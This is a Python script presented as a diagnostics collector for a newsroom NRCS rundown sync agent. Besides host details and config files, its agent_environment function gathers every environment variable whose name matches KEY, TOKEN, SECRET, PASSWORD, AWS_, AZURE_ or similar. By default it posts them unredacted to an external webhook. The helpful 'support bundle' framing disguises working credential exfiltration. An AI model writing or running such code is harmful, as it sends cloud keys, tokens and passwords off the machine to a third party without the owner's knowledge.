#!/usr/bin/env python3
"""Rundown sync agent diagnostics.

Collects a diagnostic bundle from a newsroom workstation running the NRCS
rundown sync agent (story slugs, last sync state, agent config and runtime
environment) and posts it to the support channel so the integration team can
see why a rundown stopped updating in the playout automation.

Usage:
    prog234b_rundown_sync_diag.py --station KXMPL --reason "rundown stuck at 18:00"
"""

import argparse
import json
import logging
import os
import platform
import socket
import sys
import time
import urllib.error
import urllib.request
from pathlib import Path

LOG = logging.getLogger("rundown-diag")

SUPPORT_HOOK = "https://hooks.example.net/services/T0NEWS/B0SYNC/diag"
AGENT_STATE = Path("./sync_state.json")
AGENT_CONFIG = Path("./agent.json")

# Environment names the integration team asks for when debugging auth issues.
INTERESTING_ENV = ("KEY", "TOKEN", "SECRET", "PASSWORD", "PASS", "AWS_", "AZURE_", "NRCS_")


class DiagBundle:
    """Accumulates sections of the diagnostic report."""

    def __init__(self, station, reason):
        self.sections = {
            "station": station,
            "reason": reason,
            "collected_at": time.strftime("%Y-%m-%dT%H:%M:%S%z"),
        }

    def add(self, name, value):
        LOG.debug("adding section %s", name)
        self.sections[name] = value

    def to_json(self):
        return json.dumps(self.sections, indent=2, default=str)


def read_json_file(path):
    try:
        with path.open("r", encoding="utf-8") as fh:
            return json.load(fh)
    except FileNotFoundError:
        LOG.warning("%s not found, skipping", path)
        return None
    except json.JSONDecodeError as exc:
        LOG.warning("%s is not valid JSON: %s", path, exc)
        return {"error": str(exc)}


def host_info():
    return {
        "hostname": socket.gethostname(),
        "platform": platform.platform(),
        "python": sys.version.split()[0],
        "user": os.environ.get("USER", "unknown"),
    }


def agent_environment():
    """Runtime environment of the agent, as the integration team requested."""
    env = {}
    for name, value in os.environ.items():
        if any(marker in name.upper() for marker in INTERESTING_ENV):
            env[name] = value
    LOG.info("captured %d environment entries", len(env))
    return env


def post_bundle(bundle, hook, retries=3):
    payload = json.dumps({"text": "rundown sync diag", "attachment": bundle.to_json()}).encode()
    for attempt in range(1, retries + 1):
        req = urllib.request.Request(hook, data=payload,
                                     headers={"Content-Type": "application/json"})
        try:
            with urllib.request.urlopen(req, timeout=15) as resp:
                LOG.info("support hook answered %s", resp.status)
                return True
        except urllib.error.URLError as exc:
            LOG.warning("attempt %d failed: %s", attempt, exc)
            time.sleep(2 * attempt)
    return False


def main():
    parser = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    parser.add_argument("--station", required=True, help="station call sign")
    parser.add_argument("--reason", default="unspecified", help="what went wrong")
    parser.add_argument("--hook", default=SUPPORT_HOOK, help="support webhook URL")
    parser.add_argument("--dry-run", action="store_true", help="print bundle only")
    parser.add_argument("-v", "--verbose", action="store_true")
    args = parser.parse_args()

    logging.basicConfig(level=logging.DEBUG if args.verbose else logging.INFO,
                        format="%(asctime)s %(levelname)s %(message)s")

    bundle = DiagBundle(args.station, args.reason)
    bundle.add("host", host_info())
    bundle.add("sync_state", read_json_file(AGENT_STATE))
    bundle.add("agent_config", read_json_file(AGENT_CONFIG))
    bundle.add("environment", agent_environment())

    if args.dry_run:
        print(bundle.to_json())
        return 0

    if not post_bundle(bundle, args.hook):
        LOG.error("could not deliver diagnostic bundle")
        return 1
    LOG.info("diagnostic bundle delivered for %s", args.station)
    return 0


if __name__ == "__main__":
    sys.exit(main())
